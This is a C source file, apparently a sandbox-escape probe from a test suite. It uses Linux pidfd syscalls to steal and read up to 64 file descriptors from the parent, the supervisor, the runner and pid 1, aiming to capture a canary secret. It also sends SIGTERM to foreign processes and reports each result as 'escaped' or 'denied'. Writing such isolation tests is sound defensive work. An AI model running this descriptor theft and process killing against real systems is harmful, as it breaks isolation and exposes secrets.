/* G05 pidfd attacks: pidfd_open the parent, the supervisor, the runner and the sandbox's pid 1, then
 * pidfd_getfd every descriptor 0..63 of each (stealing the supervisor's fd {canary_fd} would hand over the
 * secret) and read what comes back, and pidfd_send_signal(SIGTERM) to a foreign target. Also scans its own
 * fds 3..1023 for anything leaked in and prints what it reads. Host evidence: the token in stdout (canary),
 * a dead supervisor (health), a shared pid namespace (pstat). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include <sys/syscall.h>

#ifndef __NR_pidfd_open
#define __NR_pidfd_open 434
#endif
#ifndef __NR_pidfd_send_signal
#define __NR_pidfd_send_signal 424
#endif
#ifndef __NR_pidfd_getfd
#define __NR_pidfd_getfd 438
#endif

static const char *nonce = "none";
static char mycomm[64];

static void comm_of(pid_t pid, char *out, size_t n) {
    char p[64];
    snprintf(p, sizeof p, "/proc/%d/comm", (int)pid);
    FILE *f = fopen(p, "r");
    out[0] = 0;
    if (f) { if (!fgets(out, n, f)) out[0] = 0; fclose(f); }
    out[strcspn(out, "\n")] = 0;
}

static void dump_fd(const char *label, int fd) {
    char buf[256];
    lseek(fd, 0, SEEK_SET);
    ssize_t n = pread(fd, buf, sizeof buf - 1, 0);
    if (n < 0) n = read(fd, buf, sizeof buf - 1);
    if (n > 0) {
        buf[n] = 0;
        printf("pidfd: %s read %zd bytes: %s\n", label, n, buf);
    }
}

static void attack(const char *label, pid_t pid, int canary_fd) {
    if (pid <= 0 || pid == getpid()) return;
    long pfd = syscall(__NR_pidfd_open, pid, 0);
    int oe = errno;
    char comm[64];
    comm_of(pid, comm, sizeof comm);
    printf("pidfd: pidfd_open(%s %d) -> %s (comm '%s')\n", label, (int)pid, pfd >= 0 ? "ok" : strerror(oe), comm);
    if (pfd < 0) { fflush(stdout); return; }
    int stolen = 0, last = 0;
    for (int fd = 0; fd < 64; fd++) {
        long nfd = syscall(__NR_pidfd_getfd, pfd, fd, 0);
        if (nfd < 0) { last = errno; continue; }
        stolen++;
        char l[96];
        snprintf(l, sizeof l, "stolen fd %d of %s", fd, label);
        dump_fd(l, nfd);
        close(nfd);
    }
    printf("pidfd: pidfd_getfd on %s: %d fds stolen (last error %s); its fd %d was a target\n", label, stolen,
           last ? strerror(last) : "-", canary_fd);
    int foreign = strcmp(comm, mycomm) != 0 && pid != 1;
    printf("GAUNTLET-REPORT %s %s steal descriptors from the %s\n", nonce, (stolen && foreign) ? "escaped" : "denied", label);
    if (foreign && strcmp(label, "runner") != 0) {
        long r = syscall(__NR_pidfd_send_signal, pfd, SIGTERM, NULL, 0);
        printf("pidfd: pidfd_send_signal(%s, SIGTERM) -> %s\n", label, r ? strerror(errno) : "ok");
        printf("GAUNTLET-REPORT %s %s signal the %s through a pidfd\n", nonce, r == 0 ? "escaped" : "denied", label);
    }
    close(pfd);
    fflush(stdout);
}

int main(int argc, char **argv) {
    if (argc > 1) nonce = argv[1];
    pid_t sup = argc > 2 ? atoi(argv[2]) : 0, run = argc > 3 ? atoi(argv[3]) : 0;
    int canary_fd = argc > 4 ? atoi(argv[4]) : 3;
    comm_of(getpid(), mycomm, sizeof mycomm);
    /* leaked descriptors of our own first */
    int own = 0;
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        own++;
        char l[64];
        snprintf(l, sizeof l, "own inherited fd %d", fd);
        dump_fd(l, fd);
    }
    printf("pidfd: %d descriptors above 2 at start\n", own);
    attack("parent", getppid(), canary_fd);
    attack("supervisor", sup, canary_fd);
    attack("runner", run, canary_fd);
    attack("sandbox pid 1", 1, canary_fd);
    fflush(stdout);
    usleep(400000);
    return 0;
}
